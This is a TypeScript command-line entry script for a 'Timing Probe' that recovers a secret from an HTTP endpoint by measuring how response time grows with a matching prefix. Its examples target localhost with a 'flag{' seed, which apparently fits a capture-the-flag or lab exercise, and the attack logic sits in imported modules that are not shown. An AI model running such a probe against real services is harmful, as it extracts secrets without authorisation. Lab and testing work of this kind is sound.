#!/usr/bin/env npx tsx
/**
 * Timing Probe
 *
 * Recovers a secret from an endpoint whose response time grows with the
 * length of the matching prefix.
 *
 * Usage:
 *   npx tsx scripts/timing-probe.ts <target-url> [options]
 *
 * Examples:
 *   npx tsx scripts/timing-probe.ts http://localhost:8080/search --seed "flag{" --threshold-ms 170
 *   TIMING_PROBE_URL=http://localhost:8080/search npx tsx scripts/timing-probe.ts --repeats 11 --output probe.json
 */

import "dotenv/config";
import { loadProbeConfig } from "../server/config/timing-probe";
import {
  ConsoleReporter,
  ProbeConfigError,
  USAGE,
  parseCliArgs,
  runTimingProbe,
  writeProbeReport,
} from "../server/services/timing-oracle";

async function main() {
  const args = parseCliArgs(process.argv.slice(2));
  if (args.help) {
    console.log(USAGE);
    return;
  }

  const config = loadProbeConfig(process.env, args.overrides);

  console.log("═══════════════════════════════════════════════════════════");
  console.log("  Timing Probe");
  console.log("═══════════════════════════════════════════════════════════");
  console.log(`  Target:      ${config.httpMethod} ${config.targetUrl}`);
  console.log(`  Parameter:   ${config.parameterName} (${config.parameterLocation})`);
  console.log(`  Seed:        '${config.seed}'`);
  console.log(`  Charset:     ${config.charset.length} characters`);
  console.log(`  Threshold:   ${config.thresholdMs}ms (${config.aggregation} of ${config.repeats})`);
  console.log(`  Timeout:     ${config.timeoutMs}ms, delay ${config.delayMs}ms`);
  console.log(`  Max length:  ${config.maxLength}, stall retries ${config.stallRetries}`);
  console.log("───────────────────────────────────────────────────────────\n");

  const reporter = new ConsoleReporter({ quiet: args.quiet });
  const { state, report } = await runTimingProbe(config, { observer: reporter });

  console.log();
  reporter.reportResult(state);
  console.log(`[TimingProbe] ${report.requestCount} requests sent`);

  if (args.outputPath) {
    writeProbeReport(args.outputPath, report);
    console.log(`[TimingProbe] Report written to ${args.outputPath}`);
  }
}

main()
  .then(() => {
    process.exit(0);
  })
  .catch((error) => {
    if (error instanceof ProbeConfigError) {
      console.error("Invalid probe configuration:");
      error.issues.forEach((issue) => console.error(`  ${issue}`));
      console.error("");
      console.error(USAGE);
    } else {
      console.error("❌ Error:", error);
    }
    process.exit(1);
  });
